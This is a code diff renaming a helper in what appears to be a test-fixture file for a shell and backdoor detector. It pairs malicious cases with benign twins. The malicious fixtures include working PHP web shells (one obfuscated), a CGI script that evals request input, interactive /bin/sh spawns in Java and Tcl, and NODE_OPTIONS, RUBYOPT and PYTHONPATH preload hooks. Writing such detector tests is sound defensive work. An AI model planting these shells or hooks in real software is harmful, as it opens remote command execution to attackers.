@@ -17,7 +17,7 @@ def _text(text: str) -> str:
     return _NAME.sub(r"{\1}", text.replace("{", "{{").replace("}", "}}"))
 
 
-def _case(
+def case(
     name: str,
     kind: Kind,
     words: tuple[str, ...],
@@ -43,7 +43,7 @@ def _case(
 
 
 def _piped(name: str, pipeline: str) -> Case:
-    return _case(name, _A, ("sh", "-c", pipeline), code=_PIPE, at_least="suspicious")
+    return case(name, _A, ("sh", "-c", pipeline), code=_PIPE, at_least="suspicious")
 
 
 _NODE = (
@@ -94,7 +94,7 @@ _DEEP = (
 )
 
 SIDE_DOORS = (
-    _case(
+    case(
         "hook of node by a variable",
         _A,
         ("node", "-e", "setInterval(() => 0, 9e5)"),
@@ -102,7 +102,7 @@ SIDE_DOORS = (
         code=_SHELL,
         env="NODE_OPTIONS=--require @home@/h.js",
     ),
-    _case(
+    case(
         "hook of ruby by a variable",
         _A,
         ("ruby", "-e", "sleep"),
@@ -110,7 +110,7 @@ SIDE_DOORS = (
         code=_SHELL,
         env="RUBYOPT=-r@home@/h.rb",
     ),
-    _case(
+    case(
         "start of python by a variable",
         _A,
         ("@python@", "-c", "import time; time.sleep(9e5)"),
@@ -118,14 +118,14 @@ SIDE_DOORS = (
         code=_SHELL,
         env="PYTHONPATH=@home@/lib",
     ),
-    _case(
+    case(
         "page that is a shell",
         _A,
         _PHP,
         ("web/index.php", "<?php echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';"),
         code=_SHELL,
     ),
-    _case(
+    case(
         "page that hides that it is a shell",
         _A,
         _PHP,
@@ -133,21 +133,21 @@ SIDE_DOORS = (
         ("web/img/t.php", "<?php $f = 'sys'.'tem'; $f($_POST['q']);"),
         code=_SHELL,
     ),
-    _case(
+    case(
         "gateway that carries out what it is asked",
         _A,
         _SERVER,
         ("cgi-bin/x.sh", '#!/bin/sh\necho; read -r line; eval "$line"\n'),
         code=_SHELL,
     ),
-    _case(
+    case(
         "application in another folder",
         _A,
         ("gunicorn", "-b", "127.0.0.1:@port@", "--chdir", "@home@/web", "shop:app"),
         ("web/shop.py", _COMMANDS),
         code=_SHELL,
     ),
-    _case(
+    case(
         "module of a module",
         _A,
         ("@python@", "@home@/one.py"),
@@ -156,7 +156,7 @@ SIDE_DOORS = (
         ("three.py", _DEEP),
         code=_SHELL,
     ),
-    _case(
+    case(
         "code in a file of data",
         _A,
         ("@python@", "@home@/one.py"),
@@ -164,7 +164,7 @@ SIDE_DOORS = (
         ("data.bin", _DEEP),
         code=_SHELL,
     ),
-    _case(
+    case(
         "repl for a peer",
         _A,
         (
@@ -176,21 +176,21 @@ SIDE_DOORS = (
         ),
         code=_SHELL,
     ),
-    _case(
+    case(
         "shell of a java source",
         _A,
         ("java", "@home@/A.java"),
         ("A.java", _JAVA.replace("BODY", '"/bin/sh", "-i"')),
         code=_SHELL,
     ),
-    _case(
+    case(
         "shell of a tcl script",
         _A,
         ("tclsh", "@home@/a.tcl"),
         ("a.tcl", _TCL.replace("BODY", 'set s [open "|sh -i 2>@1" r+]; fcopy $c $s')),
         code=_SHELL,
     ),
-    _case(
+    case(
         "ser2net to a shell",
         _A,
         ("/usr/sbin/ser2net", "-d", "-c", "@home@/s.yaml"),
@@ -217,21 +217,21 @@ SIDE_DOORS = (
 )
 
 SIDE_DOOR_TWINS = (
-    _case(
+    case(
         "setting by a hook of node",
         _O,
         ("node", "-e", _WAITS_NODE),
         ("h.js", "process.env.STAGE = 'test'"),
         env="NODE_OPTIONS=--require @home@/h.js",
     ),
-    _case(
+    case(
         "coverage at the start of python",
         _O,
         ("@python@", "-m", "http.server", "--bind", "127.0.0.1", "@port@"),
         ("lib/sitecustomize.py", "import sys\nsys.dont_write_bytecode = True\n"),
         env="PYTHONPATH=@home@/lib",
     ),
-    _case(
+    case(
         "page with a version",
         _O,
         _PHP,
@@ -243,7 +243,7 @@ SIDE_DOOR_TWINS = (
             ),
         ),
     ),
-    _case(
+    case(
         "gateway that tells the time",
         _O,
         _SERVER,
@@ -252,25 +252,25 @@ SIDE_DOOR_TWINS = (
             '#!/bin/sh\necho\ncase "$QUERY_STRING" in utc) date -u;; *) date;; esac\n',
         ),
     ),
-    _case(
+    case(
         "application with its revision",
         _O,
         ("gunicorn", "-b", "127.0.0.1:@port@", "--chdir", "@home@/web", "shop:app"),
         ("web/shop.py", _REVISION),
     ),
-    _case(
+    case(
         "java source that asks for free space",
         _O,
         ("java", "@home@/A.java"),
         ("A.java", _JAVA.replace("BODY", '"/bin/sh", "-c", "df -h"')),
     ),
-    _case(
+    case(
         "tcl script with a report",
         _O,
         ("tclsh", "@home@/a.tcl"),
         ("a.tcl", _TCL.replace("BODY", 'set s [open "|sh report.sh" r]; fcopy $s $c')),
     ),
-    _case(
+    case(
         "log into xargs",
         _O,
         (
@@ -281,13 +281,13 @@ SIDE_DOOR_TWINS = (
             ),
         ),
     ),
-    _case(
+    case(
         "log into an interpreter by way of tee",
         _O,
         ("sh", "-c", f'node -e "{_WAITS_NODE}" | tee log | perl -ne "print if /error/"'),
         needs=("node", "perl"),
     ),
-    _case(
+    case(
         "openssl s_server for browsers",
         _O,
         (
